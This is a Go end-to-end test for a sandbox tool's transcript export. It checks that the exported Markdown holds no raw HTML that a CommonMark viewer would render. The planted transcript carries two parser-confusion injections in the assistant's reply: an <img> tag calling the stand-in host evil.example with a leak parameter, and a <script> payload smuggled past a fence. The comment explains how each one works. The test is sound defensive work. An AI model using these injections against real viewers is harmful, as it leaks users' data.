package hostcmds

import (
	"bytes"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/claudebox/claudebox/e2e/harness"
)

// TestReplayAttackExportMarkdownHTML: the export's Markdown safety read a
// line's code spans and fences differently from a CommonMark viewer, and
// left raw what it took for code. Two forms, in Claude's reply in a
// transcript the sandbox writes:
//   - "\`<img src=…>`": a backslash-escaped backtick opens no code span
//     (CommonMark §2.4), but the export started a span there and passed
//     the <img> unescaped; the viewer renders the tag, which loads by
//     itself and carries data out (a <script>/onerror where the viewer
//     runs them);
//   - a fence opened indented 2 spaces outside any list, a line indented
//     less (still code for the viewer), then "```": the export took the
//     fence for closed by the less-indented line, so this "```" opened a
//     fence for it while the viewer closes the block there; the next line
//     was raw HTML for the viewer and code (unescaped) for the export.
//
// Host-side proof: the Markdown that the host's claudebox --export prints
// holds no raw <img or <script that a CommonMark viewer renders as HTML.
func TestReplayAttackExportMarkdownHTML(t *testing.T) {
	h := harness.NewHost(t)
	proj := filepath.Join(h.Home, "code", "md")
	h.GitRepo(proj)
	text := "see \\`<img src=\"http://evil.example/a.png?leak=1\">`\n\n  ```\nx\n```\n<script>alert(document.domain)</script>\n```"
	line1 := `{"type":"user","uuid":"u1","parentUuid":null,"timestamp":"2030-01-01T00:00:00Z","message":{"role":"user","content":"hi"}}`
	line2 := `{"type":"assistant","uuid":"a1","parentUuid":"u1","timestamp":"2030-01-01T00:00:01Z","message":{"id":"m","role":"assistant","content":[{"type":"text","text":` + strconv.Quote(text) + `}]}}`
	h.Inside(proj, nil, `
		set -e
		d=~/.claude/projects/-planted
		mkdir -p $d
		printf '%s\n%s\n' '`+strings.ReplaceAll(line1, "'", `'\''`)+`' '`+strings.ReplaceAll(line2, "'", `'\''`)+`' > $d/00000000-0000-4000-8000-000000000005.jsonl
	`)
	h.Chown()
	c := h.Command(proj, nil, "claudebox", "--export", "00000000-0000-4000-8000-000000000005")
	var stdout, stderr bytes.Buffer
	c.Stdout, c.Stderr = &stdout, &stderr
	if err := c.Run(); err != nil {
		t.Fatalf("--export: %v\n%s", err, stderr.String())
	}
	md := stdout.String()
	for _, bad := range []string{"\\`<img src=", "\n<script>"} {
		if strings.Contains(md, bad) {
			t.Errorf("the exported Markdown holds %q, raw HTML for a CommonMark viewer", bad)
		}
	}
	if t.Failed() {
		t.Logf("markdown:\n%s", md)
	}
}
